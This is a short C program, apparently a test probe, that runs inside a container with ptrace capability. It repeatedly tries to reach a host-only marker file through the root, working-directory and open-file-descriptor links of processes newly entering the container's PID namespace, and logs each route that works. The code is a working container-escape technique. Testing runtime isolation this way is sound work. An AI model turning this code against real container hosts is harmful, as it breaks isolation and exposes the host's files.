/* A process of a container with CAP_SYS_PTRACE that looks for a way to the host's files through those who come into its PID namespace.
 *
 *   walker MARKER    MARKER: a file's absolute path on the host, which the container has not got
 *
 * It tries what the newest processes have open, their root and their working directory, over and over, and writes each way that led to
 * the marker to /escaped, once. Linked statically: it runs in a root without a C library. */
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#define UP "/../../../../../../../../../../../.."

static int newest(void)
{
	int most = 1;
	DIR *proc = opendir("/proc");
	if (!proc)
		return most;
	for (struct dirent *e; (e = readdir(proc));)
		if (atoi(e->d_name) > most)
			most = atoi(e->d_name);
	closedir(proc);
	return most;
}

static void attempt(int pid, const char *way, const char *marker)
{
	static char told[64][32];
	static int count;
	char path[512];
	snprintf(path, sizeof path, "/proc/%d/%s" UP "%s", pid, way, marker);
	if (access(path, F_OK) != 0)
		return;
	for (int i = 0; i < count; i++)
		if (!strcmp(told[i], way))
			return;
	if (count < 64)
		snprintf(told[count++], sizeof *told, "%s", way);
	int out = open("/escaped", O_WRONLY | O_CREAT | O_APPEND, 0644);
	dprintf(out, "%s\n", way);
	close(out);
}

int main(int argc, char **argv)
{
	char way[32];
	if (argc != 2)
		return 2;
	for (int pid = newest(), empty = 0;; empty++) {
		for (int p = pid; p < pid + 4; p++) {
			snprintf(way, sizeof way, "/proc/%d", p);
			if (p == getpid() || access(way, F_OK) != 0)
				continue;
			empty = 0;
			pid = p;
			attempt(p, "root", argv[1]);
			attempt(p, "cwd", argv[1]);
			for (int fd = 0; fd < 24; fd++) {
				snprintf(way, sizeof way, "fd/%d", fd);
				attempt(p, way, argv[1]);
			}
		}
		if (empty > 1000) {
			pid = newest();
			empty = 0;
		}
	}
}
